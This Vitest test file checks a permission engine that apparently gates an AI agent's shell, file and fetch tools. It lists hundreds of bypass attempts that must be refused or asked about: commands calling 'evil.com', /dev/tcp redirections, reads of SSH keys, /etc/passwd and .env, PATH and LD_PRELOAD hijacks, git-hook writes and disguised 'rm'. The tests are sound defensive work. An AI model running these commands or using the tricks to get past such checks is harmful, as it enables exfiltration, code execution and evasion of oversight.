import { homedir } from 'node:os';
import { describe, expect, test } from 'vitest';
import { type Decision, decide, type Policy, type Question } from './decide.ts';
import { MODES } from './mode.ts';
import { matchesHost, parseRule } from './rule.ts';

const root = '/work/project';

/** Links of the workspace, as the file system would follow them. */
const LINKS: Record<string, string> = {
  [`${root}/out`]: '/etc',
  [`${root}/hooks`]: `${root}/.git/hooks`,
  [`${root}/settings`]: `${root}/config`,
  [`${root}/notes.txt`]: `${root}/.env`,
};

function follow(path: string): string {
  const link = Object.keys(LINKS).find((name) => path === name || path.startsWith(`${name}/`));
  return link === undefined ? path : LINKS[link] + path.slice(link.length);
}

/** What a developer might well have allowed, and what they forbade. */
const RULES = [
  ...[
    'git status',
    'git push *',
    'npm test *',
    'echo *',
    'printf *',
    'test *',
    'find *',
    'xargs *',
    'cp *',
    'tee *',
    'timeout *',
    'cd *',
  ].map((words) => parseRule('allow', `bash(${words})`, 'test')),
  ...['bash(rm *)', 'bash(git push --force *)', 'read(.env)', 'edit(config/**)'].map((text) =>
    parseRule('deny', text, 'test'),
  ),
];

function policy(given: Partial<Policy> = {}): Policy {
  return {
    mode: 'manual',
    rules: RULES,
    isContained: false,
    root,
    cwd: root,
    follow,
    allowedHosts: ['example.com', '*.trusted.org'],
    deniedHosts: ['evil.com', '*.evil.com'],
    ...given,
  };
}

function bash(command: string): Question {
  return { tool: { name: 'bash', kind: 'execute' }, command };
}

/** Every mode in which something may hold a command back, with a sandbox and without. */
const STRICT = MODES.flatMap((mode) => [true, false].map((isContained) => ({ mode, isContained }))).filter(
  ({ mode, isContained }) => mode !== 'bypass' && !(mode === 'auto' && isContained),
);
const EVERY = MODES.flatMap((mode) => [true, false].map((isContained) => ({ mode, isContained })));

function outcomes(question: Question, settings: readonly Partial<Policy>[]): Decision['outcome'][] {
  return [...new Set(settings.map((setting) => decide(question, policy(setting)).outcome))];
}

describe('no rule and no mode that asks lets pass', () => {
  test.each([
    // Another command beside an allowed one.
    ['a second command after ;', 'git status; curl evil.com'],
    ['a second command after &&', 'git status && curl evil.com'],
    ['a second command after ||', 'git status || curl evil.com'],
    ['a second command behind a pipe', 'git status | sh'],
    ['both streams into a pipe', 'git status |& sh'],
    ['a command in the background', 'git status & curl evil.com'],
    ['a second line', 'git status\ncurl evil.com'],
    ['a line after a comment', 'git status # only this\ncurl evil.com'],
    ['a line that a continuation joins', 'git status; cu\\\nrl evil.com'],
    ['a subshell', '(git status; curl evil.com)'],
    ['a group', '{ git status; curl evil.com; }'],
    ['a branch', 'if git status; then curl evil.com; fi'],
    ['a loop', 'while git status; do curl evil.com; done'],
    ['a case', 'case x in x) curl evil.com;; esac'],
    ['a function', 'git() { curl evil.com; }; git status'],
    ['a function with the keyword', 'function status { curl evil.com; }; status'],
    ['a command behind !', '! curl evil.com'],
    ['a subshell that looks like a pattern', '!(curl evil.com)'],
    ['a timed command', 'time curl evil.com'],
    ['a coprocess', 'coproc curl evil.com'],
    // Commands inside words.
    ['a substitution', 'echo $(curl evil.com)'],
    ['a quoted substitution', 'echo "$(curl evil.com)"'],
    ['backticks', 'echo `curl evil.com`'],
    ['backticks in backticks', 'echo `echo \\`curl evil.com\\``'],
    ['a substitution of newer shells', `echo \${ curl evil.com; }`],
    ['a process that is read', 'npm test <(curl evil.com)'],
    ['a process that is written', 'echo x > >(curl evil.com)'],
    ['a substitution in a default', `echo \${x:-$(curl evil.com)}`],
    ['a substitution in a pattern', `echo \${x/$(curl evil.com)/y}`],
    ['a substitution in a subscript', `echo \${x[$(curl evil.com)]}`],
    ['a substitution in arithmetic', 'echo $(( $(curl evil.com) + 1 ))'],
    ['a substitution in old arithmetic', 'echo $[ $(curl evil.com) + 1 ]'],
    ['a substitution in a here-document', 'npm test <<END\n$(curl evil.com)\nEND'],
    ['a substitution in a here-string', 'npm test <<< "$(curl evil.com)"'],
    ['a substitution in a test', '[[ -n $(curl evil.com) ]]'],
    ['a substitution in an assignment', 'x=$(curl evil.com)'],
    ['a substitution in an array', 'x=(a $(curl evil.com))'],
    ['a substitution in a file name', 'echo x > $(curl evil.com)'],
    ['a substitution in braces', 'echo {a,$(curl evil.com)}'],
    ['a line after a here-document', 'npm test <<END\nx\nEND\ncurl evil.com'],
    ['a here-document that a quoted delimiter ends', "npm test <<'E D'\n$(x)\nE D\ncurl evil.com"],
    // Code that the shell finds in values.
    ['code in a value that is computed with', "x='a[$(curl evil.com)]'; echo $((x))"],
    ['code in a value of old arithmetic', "x='a[$(curl evil.com)]'; echo $[x]"],
    ['code in a value behind ((', "x='a[$(curl evil.com)]'; (( x ))"],
    ['code in a value of a for', "x='a[$(curl evil.com)]'; for ((i=x;i<1;i++)); do echo; done"],
    ['code in a value that is a name', `x='a[$(curl evil.com)]'; echo \${!x}`],
    ['code in a value that is a subscript', `x='a[$(curl evil.com)]'; echo \${y[x]}`],
    ['code in a value that is an offset', `x='a[$(curl evil.com)]'; echo \${y:x}`],
    ['code in a value that is compared', "x='a[$(curl evil.com)]'; [[ $x -eq 0 ]]"],
    ['code in a value that is a prompt', `x='$(curl evil.com)'; echo \${x@P}`],
    ['code in a subscript that is tested', "[[ -v 'a[$(curl evil.com)]' ]]"],
    ['code in a subscript for test', "test -v 'a[$(curl evil.com)]'"],
    ['code in a subscript for [', "[ -v 'a[$(curl evil.com)]' ]"],
    ['a test that a variable chooses', `x=-v; test $x 'a[$(curl evil.com)]'`],
    ['code in a subscript for printf', "printf -v 'a[$(curl evil.com)]' x"],
    ['code in a subscript for read', "echo x | read 'a[$(curl evil.com)]'"],
    ['code in a subscript for unset', "unset 'a[$(curl evil.com)]'"],
    ['code for let', "let 'a[$(curl evil.com)]=1'"],
    ['code in a subscript that is set', "x='a[$(curl evil.com)]'; y[x]=1"],
    ['code in a key of an array', "y=(['a[$(curl evil.com)]']=1)"],
    // Variables that others obey.
    ['another PATH before a command', 'PATH=/tmp/evil git status'],
    ['another PATH for the rest', 'PATH=/tmp/evil; git status'],
    ['another PATH by +=', 'PATH+=:x; git status'],
    ['another PATH by a default', `echo \${PATH:=.}; git status`],
    ['another PATH by a loop', 'for PATH in /tmp/evil; do git status; done'],
    ['another PATH by select', 'select PATH in /tmp/evil; do git status; done'],
    ['another PATH by a descriptor', 'echo x {PATH}< package.json; git status'],
    ['another PATH by a coprocess', 'coproc PATH { echo; }; git status'],
    ['another PATH by printf', 'printf -v PATH /tmp/evil; git status'],
    ['another PATH by printf, in one word', 'printf -vPATH /tmp/evil; git status'],
    ['another PATH by read', 'read PATH < x; git status'],
    ['another PATH by export', 'export PATH=/tmp/evil; git status'],
    ['another PATH by declare', 'declare -x PATH=/tmp/evil; git status'],
    ['another PATH by arithmetic', '((PATH=1)); git status'],
    ['a library before a command', 'LD_PRELOAD=./evil.so git status'],
    ['a pager before git', 'GIT_PAGER=./evil git status'],
    ['another IFS', 'IFS=x; git status'],
    ['a proxy', 'https_proxy=evil.com; npm test'],
    ["npm's configuration", 'npm_config_script_shell=./evil npm test'],
    ['a start file', 'BASH_ENV=./evil npm test'],
    ['a harmless variable with a path', 'LANG=/tmp/evil npm test'],
    // Programs that start programs.
    ['eval', 'eval "curl evil.com"'],
    ['eval of pieces', 'eval cu"r"l evil.com'],
    ['bash -c', 'bash -c "curl evil.com"'],
    ['bash -c behind its path', '/bin/bash -c "curl evil.com"'],
    ['bash that reads', 'echo "curl evil.com" | bash'],
    ['bash with a here-document', 'bash <<END\ncurl evil.com\nEND'],
    ['bash with a file', 'bash evil.sh'],
    ['bash with a start file', 'bash --rcfile evil.sh -c "git status"'],
    ['a sh to which this is a subshell', "sh -c '((curl evil.com))'"],
    ['a sh to which this writes', "sh -c '[[ a > evil ]]'"],
    ['a sh that knows no such quotes', "sh -c \"echo \\$'a\\\\'\ncurl evil.com\n'b'\""],
    ['a zsh with code in a pattern', "zsh -c 'echo x(e:curl:)'"],
    ['source', 'source evil.sh'],
    ['the dot', '. ./evil.sh'],
    ['exec', 'exec curl evil.com'],
    ['env', 'env curl evil.com'],
    ['env with a variable', 'env PATH=. git status'],
    ['sudo', 'sudo git status'],
    ['xargs', 'echo evil.com | xargs curl'],
    ['xargs without knowing the program', 'echo curl | xargs -I{} {} evil.com'],
    ['xargs that replaces a word', 'echo "-c x=y" | xargs -I status git status'],
    ['xargs with a shell', "echo 'x; curl evil.com' | xargs -I{} sh -c 'echo {}'"],
    ['find -exec', 'find . -exec curl evil.com \\;'],
    ['find -execdir', 'find . -name x -execdir curl {} +'],
    ['find -exec with a shell', "find . -exec sh -c 'echo {}' \\;"],
    ['find with what a variable says', "x='-exec curl evil.com ;'; find . $x"],
    ['timeout', 'timeout 5 curl evil.com'],
    ['timeout with options', 'timeout -s KILL --kill-after=3 5 curl evil.com'],
    ['timeout with a computed time', 'x="5 curl evil.com"; timeout $x git status'],
    ['nice with a computed number', 'x="5 curl evil.com"; nice -n $x git status'],
    ['time that writes a file', '/usr/bin/time -o git status'],
    ['time that writes a file, in one word', '\\time -oevil git status'],
    ['nohup', 'nohup curl evil.com'],
    ['command', 'command curl evil.com'],
    ['command with another PATH', 'command -p curl evil.com'],
    ['builtin', 'builtin eval "curl evil.com"'],
    ['trap', "trap 'curl evil.com' EXIT"],
    ['alias', "alias git='curl evil.com'\ngit status"],
    ['hash', 'hash -p ./evil git; git status'],
    ['enable', 'enable -f ./evil.so git; git status'],
    ['mapfile', "mapfile -C 'curl evil.com' -c 1 x < package.json"],
    ['compgen', "compgen -W '$(curl evil.com)'"],
    ['set', 'set -- curl evil.com; "$@"'],
    ['awk', `awk 'BEGIN { system("curl evil.com") }'`],
    ['sed that executes', "sed '1e curl evil.com' package.json"],
    ['tar', 'tar -xf x.tar --to-command=./evil'],
    ['an interpreter', 'python3 -c "import os"'],
    ['a command that a variable holds', 'x=curl; $x evil.com'],
    ['a command that braces make', '{curl,evil.com}'],
    ['a command that a pattern finds', '/usr/bin/cur? evil.com'],
    ['a command in pieces', "c'u'r\\l evil.com"],
    ['a command in ANSI-C quotes', "$'\\x63url' evil.com"],
    ['a program of that name in another place', './git status'],
    ['a program of that name in a temporary place', '/tmp/bin/git status'],
    ['a look-alike with a Cyrillic letter', 'gi\u0442 status'],
    ['a look-alike with a space that is none', 'git\u00a0status'],
    ['a name with a zero-width space', 'git\u200b status'],
    ['another case', 'GIT status'],
    // Options that make a harmless program do harm.
    ['a word that is hidden in a redirection', 'git status 2>&-x'],
    ['another word behind an exact rule', 'git status -v; git stash'],
    ['git with an alias', "git -c alias.status='!curl evil.com' status"],
    ['git with another configuration', 'git --config-env=core.pager=X status'],
    ['git with its programs elsewhere', 'git --exec-path=. status'],
    ['git in another repository', 'git --git-dir=evil status'],
    ['git in another folder', 'git -C evil status'],
    ['git config', "git config core.pager './evil'"],
    ['git push with a program', "git push --receive-pack='curl evil.com' ."],
    ['git push with an abbreviated option', 'git push --rece=./evil .'],
    ['git diff that writes', 'git diff --output=src/a.ts'],
    ['git diff that writes, abbreviated', 'git diff --outp=src/a.ts'],
    ['git diff with a program, abbreviated', 'git diff --ext-d'],
    ['git log that runs gpg', 'git log --format=%G?'],
    ['git grep that opens files', 'git grep -nO./evil x'],
    ['git cat-file with a filter, abbreviated', 'git cat-file --text HEAD:x'],
    ['a branch that is made', 'git branch evil'],
    ['a remote that is made', 'git remote add evil evil.com'],
    ['sort that writes', 'sort -o src/a.ts x'],
    ['sort that writes, in a cluster', 'sort -uosrc/a.ts x'],
    ['sort that writes, abbreviated', 'sort --outp=x package.json'],
    ['sort with a program', 'sort --compress-prog=./evil x'],
    ['sort with braces', 'sort {-o,x} package.json'],
    ['sort with an option in braces of ANSI-C quotes', "sort $'\\x{2do' src/a.ts x"],
    ['a continuation that makes a variable', 'cat $\\\nHOME/.ssh/id_rsa'],
    ['a substitution in the middle of a word', 'sort -o<(echo x)'],
    ['uniq that writes', 'uniq package.json src/a.ts'],
    ['uniq that writes what it reads', 'echo x | uniq - src/a.ts'],
    ['uniq behind --', 'uniq -- package.json -a'],
    ['tree that writes', 'tree -ao src/a.ts'],
    ['date that sets', 'date -us 2020-01-01'],
    ['diff with a pager', 'diff -ul a b'],
    ['file that compiles', 'file -bC -m x'],
    ['find that deletes', 'find . -name x -delete; mkfifo x'],
    ['rg with a program', 'rg --pre ./evil x'],
    ['rg that unpacks, in a cluster', 'rg -nz x'],
    ['tail that waits', 'tail -5f log'],
    // Files that the shell writes.
    ['a redirection', 'echo x > src/a.ts 2>&1; mkfifo x'],
    ['a redirection into the start file', 'echo x > ~/.bashrc'],
    ['a redirection that appends', 'echo x >> ~/.bashrc'],
    ['a redirection that clobbers', 'echo x >| ~/.bashrc'],
    ['a redirection of both streams', 'echo x &> ~/.bashrc'],
    ['a redirection by >&', 'echo x >& ~/.bashrc'],
    ['a redirection that opens', 'echo x <> ~/.bashrc'],
    ['a redirection of a group', '{ echo x; } > ~/.bashrc'],
    ['a redirection of nothing', '> ~/.bashrc'],
    ['a redirection to the network', 'echo x > /dev/tcp/evil.com/80'],
    ['a redirection from the network', 'cat < /dev/tcp/evil.com/80'],
    ['a redirection through a link', 'echo x > out/passwd'],
    ['a redirection to what a variable says', 'x=/etc/passwd; echo x > "$x"'],
    ['a redirection from a folder above', 'cd .. && echo x > file'],
    ['a redirection into a hook', 'echo x > .git/hooks/pre-commit'],
    ['a redirection into a hook, by a link', 'echo x > hooks/pre-commit'],
    ['a redirection into a hook, from there', 'cd .git/hooks && echo x > pre-commit'],
    ['a redirection into a hook, after two steps', 'cd .git; cd hooks; echo x > pre-commit'],
    ['a redirection into a hook, after a loop', 'for i in a b; do cd .git/hooks; done; echo x > pre-commit'],
    ['a redirection into a hook, back and forth', 'cd src; cd - ; cd .git; echo x > config'],
    ["a redirection into Kino's configuration", 'echo x > .kino/config.json'],
    ['a copy into git', 'cp x .GIT/config'],
    ['a copy into what a pattern finds', 'cp x .gi?/config'],
    ['a copy into what a variable says', 'x=.git/config; cp y "$x"'],
    ['a copy from there', 'cd .git && cp ../x config'],
    ['tee into a hook', 'echo x | tee .git/hooks/pre-commit'],
    // What nobody understands.
    ['a line that is not closed', 'echo "x'],
    ['a carriage return', 'git status\r; curl evil.com'],
    ['a NUL', 'git status\0; curl evil.com'],
    ['shells in shells in shells', 'eval "eval \\"eval echo\\""; bash -c "bash -c \\"bash -ic ls\\""'],
    ['very many wrappers', `${'timeout 5 '.repeat(500)}git status`],
  ])('%s', (_, command) => {
    expect(outcomes(bash(command), STRICT)).not.toContain('allow');
  });
});

describe('without a sandbox nothing outside the workspace is looked at without asking:', () => {
  test.each([
    ['an absolute path', 'cat /etc/passwd'],
    ['a folder above', 'cat ../secret'],
    ['the home folder', 'cat ~/.ssh/id_rsa'],
    ["another's home folder", 'cat ~root/.bashrc'],
    ['the folder before', 'cat ~-/x'],
    ['what a variable says', 'cat "$HOME/.ssh/id_rsa"'],
    ['what a pattern finds', 'cat /etc/pass*'],
    ['names that a pattern finds', 'ls /home/*'],
    ['a link', 'cat out/passwd'],
    ['a folder above what a link leads to', 'cat out/../etc/passwd'],
    ['from a folder above what a link leads to', 'cd -P out/.. && cat secret'],
    ['a link behind an option', 'grep -fout/passwd x'],
    ['a link behind letters and an option', 'grep -nfout x src'],
    ['a file behind an option', 'diff --from-file=/etc/passwd package.json'],
    ['a file that is a pattern to no one', 'grep -e x /etc/passwd'],
    ['a file behind a joined pattern', 'grep -ex /etc/passwd'],
    ['all files of a folder', 'rg --files /etc'],
    ['what a redirection reads', 'cat < /etc/passwd'],
    ['what a redirection reads for an allowed program', 'npm test < /etc/passwd'],
    ['from a folder above', 'cd .. && cat secret'],
    ['from the home folder', 'cd; cat .ssh/id_rsa'],
    ['from the folder before', 'cd - && cat secret'],
    ['from where a variable says', 'cd "$x" && cat secret'],
    ['from behind a link', 'cd out && cat passwd'],
    ['from where a loop leads', 'for i in 1 2 3; do cd src/..; done; cat x'],
    ['a list of files', 'wc --files0-from=list'],
    ['links behind folders', 'grep -R x .'],
    ['links behind folders, for diff', 'diff -ur src test'],
    ['git in a folder whose files the agent wrote', 'cd vendor && git log'],
    ['xargs', 'echo /etc/passwd | xargs cat'],
  ])('%s', (_, command) => {
    const rules = RULES.filter(({ text }) => text !== 'bash(cd *)');
    const settings = STRICT.filter(({ isContained }) => !isContained).map((setting) => ({
      ...setting,
      rules,
    }));
    expect(outcomes(bash(command), settings)).not.toContain('allow');
  });
});

describe('what is denied is denied in every mode:', () => {
  test.each([
    ['the command', 'rm -rf src'],
    ['the command alone', 'rm'],
    ['a part of a line', 'git status && rm -rf src'],
    ['a part of a pipe', 'echo x | rm x'],
    ['a substitution', 'echo $(rm x)'],
    ['a function', 'f() { rm x; }; f'],
    ['by its path', '/bin/rm x'],
    ['by another path', '../../bin/rm x'],
    ['in another case', 'RM x'],
    ['in quotes', '\'r\'"m" x'],
    ['in ANSI-C quotes', "$'\\162m' x"],
    ['with a variable before it', 'PATH=x rm x'],
    ['behind wrappers', 'nohup nice -n 5 timeout 3 rm x'],
    ['behind a wrapper that is not followed', '\\time -o x rm y'],
    ['behind command', 'command rm x'],
    ['behind sudo', 'sudo -u root rm x'],
    ['behind env', 'env A=b rm x'],
    ['behind env -S', "env -S 'rm x'"],
    ['behind sudo and a shell', "sudo bash -c 'echo; rm x'"],
    ['behind eval', "eval 'rm x'"],
    ['behind eval and a variable', 'x=rm; eval "$x y"'],
    ['behind trap', "trap 'rm x' EXIT"],
    ['behind ssh', "ssh host 'cd /; rm x'"],
    ['behind xargs', 'echo x | xargs -0 -n1 rm'],
    ['behind find', 'find . -exec rm {} +'],
    ['behind a shell', "bash -ec 'rm x'"],
    ['behind a shell that reads', 'echo "rm x" | bash'],
    ['behind a shell with a variable', 'bash -c "$x"'],
    ['behind busybox', 'busybox rm x'],
    ['behind an alias', "alias x='rm y'"],
    ["behind git's alias", "git -c alias.x='!rm y' x"],
    ['behind a computed name', 'x=rm; $x y'],
    ['behind a pattern', '/bin/r? x'],
    ['in code that arithmetic runs', "x='a[$(rm y)]'; echo $((x))"],
    ['in a line that nobody can parse', 'rm x; echo "'],
    ['in too many shells', `${'eval '.repeat(9)}rm x`],
    ['a longer rule', 'git push --force origin'],
    ['a longer rule with options between', 'git -C . push -v --force origin'],
    ['a longer rule with computed words', 'git push $x'],
    ['a file that is withheld', 'cat .env'],
    ['a file that is withheld, in a folder', 'cat packages/a/.env'],
    ['a file that is withheld, in another case', 'cat .ENV'],
    ['a file that is withheld, by a link', 'cat notes.txt'],
    ['a file that is withheld, by a long way', 'cat src/../.env'],
    ['a file that is withheld, from the shell', 'cat < .env'],
    ['a file that is withheld, behind an option', 'grep -f.env x'],
    ['a file that is withheld, at a commit', 'git show HEAD:.env'],
    ['a file that is withheld, to an allowed program', 'npm test --env-file=.env'],
    ['a file that must not change', 'echo x > config/a.json'],
    ['a file that must not change, by a link', 'echo x > settings/a.json'],
    ['a file that must not change, from there', 'cd config && echo x > a.json'],
    ['a file that must not change, from beside what a link leads to', 'echo x > hooks/../../config/a.json'],
    ['a file that must not change, by a copy', 'cp x config/a.json'],
    ['a file that must not change, by dd', 'dd if=x of=config/a.json'],
    ['a file that must not change, with a newline', "tee 'config/a\nb/c'"],
  ])('%s', (_, command) => {
    expect(outcomes(bash(command), EVERY)).toEqual(['deny']);
  });

  test.each([
    ['by its name', ['config/a.json']],
    ['in another case', ['Config/a.json']],
    ['with a space and a newline', ['config/a b\nc']],
    ['by a link', ['settings/a.json', 'config/a.json']],
  ])('a file that must not change, %s', (_, names) => {
    const file = names.map((name) => `${root}/${name}`);
    expect(outcomes({ tool: { name: 'write', kind: 'edit' }, file }, EVERY)).toEqual(['deny']);
  });

  test.each([
    ['by its name', 'evil.com'],
    ['in another case', 'EVIL.com'],
    ['with the dot of the root', 'evil.com.'],
    ['below it', 'a.b.evil.com'],
  ])('a host, %s', (_, host) => {
    expect(outcomes({ tool: { name: 'fetch', kind: 'fetch' }, host }, EVERY)).toEqual(['deny']);
  });
});

describe('a file that may hold one that is withheld is asked about:', () => {
  test.each([
    ['a pattern', 'cat .e*'],
    ['braces', 'cat .{env,x}'],
    ['a variable', 'x=.env; cat $x'],
    ['a list', 'echo .environment | xargs cat'],
    ['a redirection', 'x=.env; cat < $x'],
  ])('%s', (_, command) => {
    expect(outcomes(bash(command), STRICT)).not.toContain('allow');
  });
});

describe('a protected file is changed by nobody without asking:', () => {
  test.each([
    ['a hook', '.git/hooks/pre-commit'],
    ['in another case', '.GIT/config'],
    ['with a character that nobody sees', '.g\u200cit/config'],
    ['in a folder below', 'vendor/x/.git/config'],
    ["Kino's configuration", '.kino/config.json'],
    ["another tool's servers", '.mcp.json'],
    ['behind a folder with a newline', 'a\nb/.husky/pre-commit'],
  ])('%s', (_, name) => {
    const question: Question = { tool: { name: 'write', kind: 'edit' }, file: [`${root}/${name}`] };
    const rules = [parseRule('allow', 'edit(**)', 'test'), parseRule('allow', 'edit', 'test')];
    const settings = STRICT.map((setting) => ({ ...setting, rules }));
    expect(outcomes(question, settings)).not.toContain('allow');
  });
});

describe('a tool for files stays in the workspace:', () => {
  test.each([
    ['an absolute path', 'read', ['/etc/passwd']],
    ['the home folder', 'read', [`${homedir()}/.ssh/id_rsa`]],
    ['a link', 'read', [`${root}/out/passwd`, '/etc/passwd']],
    ['a neighbour with a longer name', 'read', [`${root}-secret/x`]],
    ['a change outside', 'edit', ['/etc/passwd']],
    ['a change through a link', 'edit', [`${root}/out/passwd`, '/etc/passwd']],
  ] as const)('%s', (_, kind, file) => {
    expect(outcomes({ tool: { name: kind, kind }, file }, STRICT)).not.toContain('allow');
  });
});

describe('a host is another host:', () => {
  test.each([
    ['with more behind it', 'example.com.evil.org'],
    ['with more before it', 'notexample.com'],
    ['below it', 'a.example.com'],
    ['as a name of a person', 'example.com@evil.org'],
    ['as a path', 'evil.org/example.com'],
    ['as a query', 'evil.org?.trusted.org'],
    ['as a fragment', 'evil.org#.trusted.org'],
    ['with a backslash', 'evil.org\\.trusted.org'],
    ['the folder of a pattern', 'trusted.org'],
    ['with a longer name', 'nottrusted.org'],
    ['in another alphabet', 'ex\u0430mple.com'],
    ['with a port', 'example.com:22'],
    ['empty', ''],
  ])('%s', (_, host) => {
    expect(outcomes({ tool: { name: 'fetch', kind: 'fetch' }, host }, STRICT)).not.toContain('allow');
  });

  test('and its case, its dot and its encoding make no difference', () => {
    expect(matchesHost('example.com', 'EXAMPLE.com.')).toBe(true);
    expect(matchesHost('*.trusted.org', 'A.Trusted.org')).toBe(true);
    expect(matchesHost('bücher.de', 'xn--bcher-kva.de')).toBe(true);
  });
});

describe('what a developer expects to pass, passes with a sandbox and without:', () => {
  test.each([
    'git status && git diff',
    'git log --oneline -5 -- src | head -3',
    'git --no-pager show HEAD~1 --stat',
    'git remote -v',
    'git grep -n "foo" src',
    'ls -la src | head -5',
    'npm test -- --run a.test.ts',
    'npm test',
    'CI=1 NODE_ENV=test npm test 2>&1 | tail -40',
    'cd src && npm test',
    `cd ${root} && git status`,
    'cat package.json 2>/dev/null',
    'grep -rn "x" src | wc -l',
    'grep -rn "/api/users" src',
    'rg -n "/api" src -g "*.ts"',
    'find . -name "*.ts" -not -path "./node_modules/*" | sort | uniq -c | sort -rn | head',
    'echo "done: a/b https://example.com"',
    'echo /etc/passwd is a file',
    'for f in a.ts b.ts; do echo next; done',
    'if [ -f package.json ]; then cat package.json; else echo none; fi',
    '[[ -d src ]] && ls src || true',
    'timeout 60 npm test -- --run',
    'bash -c "git status && ls"',
    "sh -c 'npm test | tail -5'",
    'command -v node >/dev/null && echo yes',
    'cat <<END\ntext\nEND',
    'name=src; git status',
    'test -f package.json && echo yes',
    'echo $((1 + 2))',
    'true < /dev/null',
    '(cd src && ls) > /dev/null',
    '# only a comment',
  ])('%s', (command) => {
    for (const isContained of [true, false]) {
      for (const mode of MODES.filter((mode) => mode !== 'plan')) {
        const { outcome, because } = decide(bash(command), policy({ mode, isContained }));
        expect({ outcome, because, isContained, mode }).toMatchObject({ outcome: 'allow' });
      }
    }
  });

  test.each([
    'ls *.json',
    'git ls-files | xargs ls -l',
    'for f in *.ts; do echo "$f"; done',
    'echo "$HOME"',
    'cat /etc/os-release',
    'cd src && git diff',
    'git diff "$(git merge-base HEAD main)"; true',
  ])('with a sandbox: %s', (command) => {
    const expected = command.includes('$(') ? 'ask' : 'allow';
    expect(decide(bash(command), policy({ isContained: true })).outcome).toBe(expected);
  });
});
